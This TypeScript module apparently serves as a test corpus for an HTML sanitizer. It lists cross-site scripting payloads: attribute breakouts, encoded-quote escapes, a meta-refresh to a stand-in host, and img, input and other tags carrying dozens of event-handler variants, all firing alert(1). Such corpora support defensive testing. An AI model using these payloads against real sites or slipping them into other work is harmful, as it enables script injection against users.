/** @module Ways out of an attribute, and handlers of events. */

export const ATTRIBUTES: readonly string[] = [
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '"><script>alert(1)</script>',
  '" onfocus=alert(1) autofocus="',
  "' onfocus=alert(1) autofocus='",
  '` onfocus=alert(1) autofocus=`',
  'x onmouseover=alert(1) y=',
  '" style="position:fixed;inset:0" x="',
  '" formaction="javascript:alert(1)',
  '" popovertarget=x popover="',
  '" contenteditable tabindex=1 onfocus=alert(1) x="',
  '" accesskey=x onclick=alert(1) x="',
  '" srcdoc="<script>alert(1)</script>',
  '" http-equiv="refresh" content="0;url=//x.example',
  '" data-live="//x.example/aliran" data-owner="',
  '" id="lines" name="lines',
  '" is="chat-room" x="',
  '"/><x onwheel=alert(1) x="',
  '&quot; onfocus=alert(1) autofocus=&quot;',
  '&#34; onfocus=alert(1) autofocus=&#34;',
  '" />--><svg/onload=alert(1)>',
]

/** One a way an event comes: by loading, by focus, by pointer, by key, by time, by print, by the network. */
const NAMES =
  'abort afterprint animationend auxclick beforeinput beforematch beforetoggle beforeunload blur cancel canplay change click close contextmenu copy cut dblclick drag drop ended error focus focusin formdata gotpointercapture hashchange input invalid keydown load loadstart message mousedown mousemove mouseover online pageshow paste play pointerdown pointerrawupdate popstate reset resize scroll scrollend search securitypolicyviolation select selectstart slotchange storage submit toggle touchstart transitionend unhandledrejection unload visibilitychange webkitanimationend wheel'.split(
    ' ',
  )

export const HANDLERS: readonly string[] = [
  ...NAMES.map((name) => `<img src=x tabindex=1 autofocus on${name}=alert(1)>`),
  '<img src=x ONERROR=alert(1)>',
  '<img src=x onerror\n=\nalert(1)>',
  '<img/src/onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src=`x`onerror=alert(1)>',
  '<img src=x onerror="&#97;lert(1)">',
  '<img srcset="x, y 2x" onerror=alert(1)>',
  '<img src=x loading=lazy onerror=alert(1)//',
  '<image src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video src=x onerror=alert(1)>',
  '<audio src=x onloadstart=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<xss onclick="alert(1)" style="display:block">klik</xss>',
  '<button popovertarget=p>buka</button><p popover id=p onbeforetoggle=alert(1)>',
]
